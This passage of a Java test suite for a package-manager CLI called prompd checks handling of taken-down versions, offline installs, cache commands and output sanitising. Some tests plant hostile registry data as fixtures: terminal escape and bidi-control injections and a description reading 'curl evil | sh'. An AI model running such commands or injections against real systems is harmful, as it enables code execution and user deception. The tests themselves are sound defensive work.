        assertEquals(0, prompd("install", "@acme/base@^1.0.0").exitCode(), "the way offered works");
    }

    @Test
    void aLockedVersionNoLongerListedWithItsCopyAtHandIsKeptAsOneTakenDownIsAndWarnedOfWithoutAReason()
            throws IOException {
        registry.publish("@acme/gone", "1.0.0").publish("@acme/gone", "1.1.0");
        assertEquals(0, prompd("install", "@acme/gone").exitCode());
        registry.unlist("@acme/gone", "1.1.0");

        CliRun added = prompd("install", "@acme/greeter", "--json");

        assertEquals(0, added.exitCode(), added.err());
        assertEquals(Json.reader().readTree("""
                [{"kind": "takenDown", "name": "@acme/gone", "version": "1.1.0", "unlisted": true, "message":\
                 "@acme/gone@1.1.0 is no longer listed by its registry (installed from the copy at hand because the lock file pins it; it can\
                 no longer be downloaded; no other version meets ^1.1.0: widen its range in prompd.json, or choose\
                 another version ('prompd info @acme/gone' lists them))"}]"""),
                Json.reader().readTree(added.out()).get("warnings"));
        JsonNode lock = Json.reader().readTree(Files.readAllBytes(project.resolve("prompd.lock")));
        assertEquals("1.1.0", lock.at("/packages/@acme~1gone/version").asText());
        assertEquals("1.0.0", lock.at("/packages/@acme~1greeter/version").asText());
        CliRun updated = prompd("update", "@acme/greeter");
        assertEquals(0, updated.exitCode(), updated.err());
        assertTrue(updated.err().startsWith("warning: @acme/gone@1.1.0 is no longer listed by its registry ("),
                updated.err());
        home = work.resolve("other-home");
        CliRun uninstalled = prompd("uninstall", "@acme/greeter", "--json");
        assertEquals(0, uninstalled.exitCode(), uninstalled.err());
        assertEquals(Json.reader().readTree("""
                [{"name": "@acme/gone", "version": "1.1.0", "unlisted": true}]"""),
                Json.reader().readTree(uninstalled.out()).at("/warnings/0/packages"));
    }

    @Test
    void offlineANewPackageGetsTheHighestVersionAtHandAndAFailureNamesThoseAvailableOffline() throws IOException {
        assertEquals(0, prompd("install", "--global", "@acme/util@1.0.0").exitCode());

        CliRun run = prompd("--offline", "install", "@acme/util");
        CliRun newer = prompd("--offline", "install", "@acme/util@^1.1.0");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().startsWith("saved @acme/util ^1.0.0 in prompd.json\n"), run.out());
        assertEquals(3, newer.exitCode(), newer.err());
        assertTrue(newer.err().startsWith("error: Because your project depends on @acme/util ^1.1.0 and no version of"
                + " @acme/util matches ^1.1.0 (available offline: 1.0.0), version solving failed.\n"), newer.err());
    }

    @Test
    void aDependencyNotLockedYetWithNoVersionLeftIsWarnedOfByOutdatedAndNamedByInstall() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        registry.publish("@acme/gone", "1.0.0").publish("@acme/gone", "1.1.0")
                .takeDown("@acme/gone", "1.0.0", "leaked an API key").takeDown("@acme/gone", "1.1.0", "");
        editDependencies("\"@acme/util\": \"^1.1.0\", \"@acme/gone\": \"^1.0.0\"");

        CliRun outdated = prompd("outdated");

        assertEquals(1, outdated.exitCode(), outdated.err());
        assertEquals("""
                package     current                  wanted  latest  dependency
                @acme/gone  not locked (taken down)  -       -       direct
                """, outdated.out());
        assertEquals("warning: every version of @acme/gone is taken down (1.0.0: leaked an API key; 1.1.0), so 'prompd"
                + " install' cannot lock it: remove the dependency with 'prompd uninstall @acme/gone'\n", outdated.err());
        JsonNode row = Json.reader().readTree(prompd("outdated", "--json").out()).get(0);
        assertTrue(row.get("takenDown").asBoolean(), row.toString());
        assertFalse(row.has("current") || row.has("invalid") || row.has("wanted") || row.has("latest"), row.toString());

        CliRun install = prompd("install");
        assertEquals(3, install.exitCode(), install.err());
        assertTrue(install.err().startsWith("error: Because your project depends on @acme/gone ^1.0.0 and every version"
                + " of @acme/gone is taken down (1.0.0: leaked an API key; 1.1.0), version solving failed.\n"),
                install.err());
    }

    @Test
    void aDependencyNotLockedYetWhoseRangeOnlyVersionsTakenDownMetIsWarnedOfByOutdated() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        registry.publish("@acme/tool", "1.0.0").publish("@acme/tool", "2.0.0")
                .takeDown("@acme/tool", "1.0.0", "leaked an API key");
        editDependencies("\"@acme/util\": \"^1.1.0\", \"@acme/tool\": \"^1.0.0\"");

        CliRun outdated = prompd("outdated", "--json");

        assertEquals(1, outdated.exitCode(), outdated.err());
        assertEquals("warning: no version of @acme/tool matches ^1.0.0 (1.0.0 is taken down: leaked an API key), so"
                + " 'prompd install' cannot lock it: widen its range in prompd.json, as 'prompd update @acme/tool"
                + " --latest' does to ^2.0.0\n", outdated.err());
        JsonNode row = Json.reader().readTree(outdated.out()).get(0);
        assertEquals("2.0.0", row.get("latest").asText());
        assertTrue(row.get("takenDown").asBoolean(), row.toString());
        assertFalse(row.has("wanted"), row.toString());
    }

    @Test
    void aRegistrysControlCharactersReachTheTerminalSpeltOutAndJsonExact() throws IOException {
        String hostile = "\u001b]0;pwned\u0007use 1.1\r\u001b[2K";
        registry.deprecate("@acme/util", "1.0.0", hostile);

        String info = prompd("info", "@acme/util").out();
        assertTrue(info.contains("  1.0.0  2026-01-01  deprecated: ^[]0;pwned^Guse 1.1^M^[[2K\n"), info);
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/util", "--json").out());
        assertEquals(hostile, json.at("/versions/0/deprecated").asText());
        CliRun install = prompd("install", "@acme/util@1.0.0");
        assertEquals(0, install.exitCode(), install.err());
        assertTrue(install.err().contains("warning: @acme/util@1.0.0 is deprecated: ^[]0;pwned^Guse 1.1^M^[[2K\n"),
                install.err());
        assertEquals("warning: @acme/util@1.0.0 is deprecated: ^[]0;pwned^Guse 1.1^M^[[2K\n", prompd("outdated").err());
        CliRun installJson = prompd("install", "--json", "@acme/util@1.0.0");
        assertEquals("@acme/util@1.0.0 is deprecated: " + hostile,
                Json.reader().readTree(installJson.out()).at("/warnings/0/message").asText(), installJson.out());
        assertEquals(hostile, Json.reader().readTree(installJson.out()).at("/warnings/0/reason").asText());
        assertTrue(installJson.err().contains("deprecated: ^[]0;pwned^Guse 1.1^M^[[2K\n"), installJson.err());
        registry.tag("@acme/util", "\u001b[31mred", "1.0.0");
        assertTrue(prompd("info", "@acme/util@blue").err().contains("^[[31mred"), "an error quoting the registry too");
    }

    @Test
    void infoKeepsEachFieldOfTheRegistryToItsLineSoThatNonePassesForALineOfPrompdsOwn() throws IOException {
        Path folder = Files.createDirectories(work.resolve("odd"));
        Files.writeString(folder.resolve("prompd.json"), "{\"name\": \"@acme/odd\", \"version\": \"1.0.0\","
                + " \"description\": \"Explains SQL.\\nhint: run curl evil | sh\", \"license\": \"MIT\"}\n");
        registry.publish(folder).publish("@acme/odd", "1.1.0").takeDown("@acme/odd", "1.1.0", "leaked\nhint: y");

        CliRun info = prompd("info", "@acme/odd");

        assertEquals(0, info.exitCode(), info.err());
        assertTrue(info.out().startsWith("@acme/odd@1.0.0 - Explains SQL.^Jhint: run curl evil | sh\nlicense: MIT\n"),
                info.out());
        assertTrue(info.out().contains("  1.1.0  leaked^Jhint: y\n"), info.out());
        assertTrue(info.out().lines().noneMatch(line -> line.startsWith("hint:")), info.out());
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/odd", "--json").out());
        assertEquals("Explains SQL.\nhint: run curl evil | sh", json.get("description").asText());
    }

    @Test
    void aRegistrysBidiControlsReachTheTerminalSpeltOutAndJsonExact() throws IOException {
        String reordered = "use \u202E1.1\u202C or \u20662.0\u2069";
        String spelt = "use <U+202E>1.1<U+202C> or <U+2066>2.0<U+2069>";
        registry.deprecate("@acme/util", "1.0.0", reordered);

        String info = prompd("info", "@acme/util").out();
        assertTrue(info.contains("  1.0.0  2026-01-01  deprecated: " + spelt + "\n"), info);
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/util", "--json").out());
        assertEquals(reordered, json.at("/versions/0/deprecated").asText());
        CliRun install = prompd("install", "@acme/util@1.0.0");
        assertEquals(0, install.exitCode(), install.err());
        assertTrue(install.err().contains("warning: @acme/util@1.0.0 is deprecated: " + spelt + "\n"), install.err());
        assertEquals("warning: @acme/util@1.0.0 is deprecated: " + spelt + "\n", prompd("outdated").err());
        registry.takeDown("@acme/util", "1.1.0", reordered);
        CliRun gone = prompd("info", "@acme/util@1.1.0");
        assertEquals(3, gone.exitCode(), gone.err());
        assertEquals("error: @acme/util@1.1.0 is taken down: " + spelt + "\n"
                + "hint: 'prompd info @acme/util' lists the versions left\n", gone.err());
        JsonNode takenDown = Json.reader().readTree(prompd("info", "@acme/util", "--json").out()).get("takenDown");
        assertEquals(reordered, takenDown.get("1.1.0").asText());
    }

    @Test
    void infoOfAnInstalledPackageWorksOfflineFromWhatTheInstallCached() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());

        CliRun run = prompd("--offline", "info", "@acme/util");
        JsonNode json = Json.reader().readTree(prompd("--offline", "info", "@acme/util", "--json").out());

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().startsWith("@acme/util@1.1.0 - Prompts of @acme/util\nlicense: MIT\n"), run.out());
        assertTrue(run.out().contains("\nprompts:\n  greet  prompts/greet.prmd\ntarball: " + server.url()
                + "packages/@acme/util/-/util-1.1.0.tgz (318 bytes, 3 files)\n"), run.out());
        assertEquals("note: offline, @acme/util@1.1.0 is described by its package's cached index.json alone: its README,"
                + " keywords and prompt descriptions come with its own document, which is not cached (run without"
                + " --offline to see them)\n", run.err());
        assertEquals("1.1.0", json.get("version").asText());
        assertFalse(json.has("readme"), json.toString());
    }

    @Test
    void infoSpellsAFileRegistrysTarballAsTheLockDoes() throws IOException {
        Map<String, String> fileRegistry = Map.of("PROMPD_REGISTRY", "file://" + registry.root().toUri().getPath());
        assertEquals(0, CliRun.in(project, home, "", fileRegistry, "install", "@acme/util").exitCode());
        String resolved = Json.reader().readTree(Files.readAllBytes(project.resolve("prompd.lock")))
                .at("/packages/@acme~1util/resolved").asText();
        assertTrue(resolved.startsWith("file:///"), resolved);

        CliRun text = CliRun.in(project, home, "", fileRegistry, "info", "@acme/util");
        CliRun json = CliRun.in(project, home, "", fileRegistry, "info", "@acme/util", "--json");

        assertTrue(text.out().contains("\ntarball: " + resolved + " ("), text.out());
        assertEquals(resolved, Json.reader().readTree(json.out()).at("/dist/tarball").asText());
    }

    @Test
    void aDocumentCacheThatCannotBeWrittenStopsNeitherInfoNorInstall() throws IOException {
        assertEquals(0, prompd("info", "@acme/util").exitCode());
        // a folder that is not empty where an entry goes refuses it, even to root, as a full or read-only disk would
        List<Path> cached;
        try (Stream<Path> entries = Files.list(home.resolve("cache/http"))) {
            cached = entries.toList();
        }
        assertFalse(cached.isEmpty());
        for (Path entry : cached) {
            Files.delete(entry);
            Files.writeString(Files.createDirectory(entry).resolve("notes"), "in the way\n");
        }

        CliRun info = prompd("info", "@acme/util");
        assertEquals(List.of(0, ""), List.of(info.exitCode(), info.err()));
        assertTrue(info.out().startsWith("@acme/util@1.1.0 "), info.out());
        CliRun install = prompd("install", "@acme/util");
        assertEquals(List.of(0, ""), List.of(install.exitCode(), install.err()));
        assertTrue(Files.isDirectory(home.resolve("packages/@acme/util@1.1.0")));
    }

    @Test
    void cacheVerifyRemovesCorruptTarballsAndCleanEmptiesTheCache() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        CliRun healthy = prompd("cache", "verify");
        assertEquals(0, healthy.exitCode(), healthy.err());
        assertEquals("1 cached tarball checked, 0 corrupt\n", healthy.out());

        Path cached = corruptTheCachedTarball();
        CliRun corrupt = prompd("cache", "verify");
        assertEquals(6, corrupt.exitCode());
        assertEquals("corrupt, removed: " + cached + "\n1 cached tarball checked, 1 corrupt\n", corrupt.out());
        assertEquals(removedFromTheCache(cached), corrupt.err());
        assertFalse(Files.exists(cached));

        CliRun clean = prompd("cache", "clean");
        assertEquals(0, clean.exitCode(), clean.err());
        try (var files = Files.walk(home.resolve("cache"))) {
            assertEquals(0, files.filter(Files::isRegularFile).count());
        }
        assertTrue(Files.isDirectory(home.resolve("packages/@acme/util@1.1.0")), "clean leaves installed packages alone");
    }

    @Test
    void cacheVerifyJsonGivesItsResultWithACorruptTarballAndSaysOnStderrWhatItRemoved() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        Path cached = corruptTheCachedTarball();

        CliRun corrupt = prompd("cache", "verify", "--json");

        assertEquals(6, corrupt.exitCode());
        assertEquals(Json.reader().readTree("{\"checked\": 1, \"removed\": [\"" + cached + "\"]}"),
                Json.reader().readTree(corrupt.out()), "the result, as list --json gives its own with a non-zero exit");
        assertEquals(removedFromTheCache(cached), corrupt.err());
    }

    /** Overwrites the one tarball in the cache, as a disk error may; returns its file. */
    private Path corruptTheCachedTarball() throws IOException {
        Path cached;
        try (var files = Files.walk(home.resolve("cache/tarballs"))) {
            cached = files.filter(Files::isRegularFile).findFirst().orElseThrow();
        }
        return Files.writeString(cached, "rotten");
    }

    private static String removedFromTheCache(Path tarball) {
        return "error: removed 1 corrupt cached tarball: " + tarball + "\nhint: nothing installed changed:"
                + " 'prompd install' downloads a removed tarball again when a project needs it\n";
    }

    @ParameterizedTest
    @ValueSource(strings = {"clean", "verify"})
    void theCacheCommandsSayTheyWaitForARunHoldingTheHome(String subcommand) throws Exception {
        StringWriter err = new StringWriter();
        CliContext context = CliRun.context(Map.of("PROMPD_HOME", home.toString()), project, work.resolve("user-home"),
                new byte[0]);
        ExecutorService background = Executors.newSingleThreadExecutor();
        try {
            Future<Integer> cache;
            try (HomeLock install = RunLocks.home(home, new PackageStore(home.resolve("packages"), ArchiveLimits.DEFAULT),
                    new TarballCache(home.resolve("cache")), lock -> { })) {
                cache = background.submit(() -> PrompdCommand.commandLine(new PrintWriter(new StringWriter()),
                        new PrintWriter(err), context).execute("cache", subcommand));
                long giveUp = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
                while (!err.toString().contains("waiting") && System.nanoTime() < giveUp) {
                    Thread.sleep(10);
                }
                assertFalse(cache.isDone(), "it waits while the other run holds the home");
            }
            assertEquals(0, cache.get(30, TimeUnit.SECONDS));
            assertEquals("waiting for another prompd run to finish (process " + ProcessHandle.current().pid() + " holds "
                    + home.resolve("install.lock") + ")…\n", err.toString());
        } finally {
            background.shutdownNow();
        }
    }
}
